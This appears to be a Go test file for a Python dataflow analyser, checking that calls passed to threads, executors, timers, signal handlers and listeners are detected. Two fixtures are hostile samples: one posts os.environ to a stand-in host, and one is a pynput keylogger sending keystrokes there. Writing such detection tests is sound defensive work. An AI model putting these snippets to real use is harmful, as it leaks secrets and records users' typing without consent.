package flow

import "testing"

// handovers are programs that give callables away.
var handovers = []struct{ name, code, want string }{
	{"kept", `
import os, other
def f(): os.system("one")
def g(): os.system("two")
def h(): os.system("three")
other.registry.register(f)
other.Client().on_message = g
other.Client().handlers["x"] = h`, `call os.system('one')
call os.system('two')
call os.system('three')
!import os.system`},
	{"thread of the outside", `
import os, threading
threading.Thread(target=os.system, args=["one"]).start()
threading.Thread(None, os.system, "name", ("two",)).start()
threading.Timer(5, os.system, ["three"]).start()`, `import os.system('one')
import os.system('two')
import os.system('three')`},
	{"process of the outside", `
import subprocess, multiprocessing
multiprocessing.Process(target=subprocess.run, args=(["true"],), kwargs={"shell": True}).start()`, `import subprocess.run(['true'], shell=True)`},
	{"atexit of the outside", `
import os, atexit
atexit.register(os.system, "true")
os.system("after")`, `import os.system('true')
import os.system('after')`},
	{"executor", `
import requests, os
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor() as pool:
    pool.submit(requests.post, "https://a.invalid", data=dict(os.environ))
    list(pool.map(os.system, ["one", "two"]))`, `import requests.post('https://a.invalid', data=os.environ) <environment>
import os.system('one')
import os.system('two')`},
	{"map", `
import os
list(map(os.system, ["one", "two"]))
list(map(exec, ["os.system('three')"]))`, `import os.system('one')
import os.system('two')
import os.system('three') in exec()`},
	{"loop", `
import os, asyncio
asyncio.get_event_loop().run_in_executor(None, os.system, "one")
async def f():
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, os.system, "two")
    await asyncio.to_thread(os.system, "three")
asyncio.run(f())`, `import os.system('one')
import os.system('two')
import os.system('three')`},
	{"partial handed over", `
import os, threading, functools
threading.Thread(target=functools.partial(os.system, "true")).start()`, `import os.system('true')`},
	{"signal", `
import os, signal, sys
def f(a, b): os.system("one")
signal.signal(signal.SIGTERM, f)
signal.signal(signal.SIGINT, sys.exit)
os.system("two")`, `import os.system('one')
import os.system('two')`},
	{"arguments of a job", `
import os, concurrent.futures
def f(a, b): os.system(a + b)
concurrent.futures.ThreadPoolExecutor().submit(f, "tr", b="ue")`, `import os.system('true')`},
	{"listener", `
import requests
from pynput import keyboard
def f(key): requests.post("https://a.invalid", data=str(key))
with keyboard.Listener(on_press=f) as l: l.join()`, `import requests.post('https://a.invalid', data=...) <keystrokes,parameter>`},
}

func TestHandovers(t *testing.T) { holdPrograms(t, handovers) }
